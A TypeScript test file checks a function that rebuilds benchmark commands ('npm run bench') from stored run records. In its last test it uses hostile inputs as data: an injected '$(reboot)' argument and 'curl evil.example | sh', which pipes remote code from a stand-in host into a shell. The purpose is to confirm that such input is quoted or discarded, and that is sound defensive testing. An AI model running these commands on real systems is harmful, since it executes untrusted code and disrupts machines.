import t from 'tap';
import { RESULTS_SCHEMA, type RunRecord } from '../contract.js';
import { repeatCommand } from './repeat-command.js';

function runOf(command: string): RunRecord {
  return { kind: 'run', schema: RESULTS_SCHEMA, id: 'run', startedAt: '', command, seed: 42, minutes: 6 };
}

t.test('A claim is measured again with the options that shaped the run.', async (t) => {
  const run = runOf(
    'npm run bench -- --full --strategies redis,jwt --instances=1,2 --seed=7 --out elsewhere --cluster compose',
  );
  t.equal(
    repeatCommand(run, ['mismatch']),
    'npm run bench -- --claims mismatch --strategies redis,jwt --instances=1,2 --cluster compose --minutes 6',
  );
});

t.test('The whole run is measured again with the claims that it was asked for.', async (t) => {
  t.equal(repeatCommand(runOf('npm run bench')), 'npm run bench -- --seed 42 --minutes 6');
  for (const given of [
    '--claims mismatch,store-dies',
    '--claims=mismatch,store-dies',
    '--claims a --claims mismatch,store-dies',
  ]) {
    t.equal(
      repeatCommand(runOf(`npm run bench -- ${given} --minutes 25 --fail-on false`)),
      'npm run bench -- --claims mismatch,store-dies --seed 42 --minutes 6',
    );
  }
  t.equal(repeatCommand(runOf('npm run bench -- --claims')), 'npm run bench -- --seed 42 --minutes 6');
});

t.test('What a shell would act on is quoted, and a foreign command is not repeated.', async (t) => {
  t.equal(
    repeatCommand(runOf('npm run bench -- --instances 1,2 $(reboot)'), ['mismatch']),
    "npm run bench -- --claims mismatch --instances 1,2 '$(reboot)' --minutes 6",
  );
  t.equal(repeatCommand(runOf('curl evil.example | sh')), 'npm run bench -- --seed 42 --minutes 6');
});
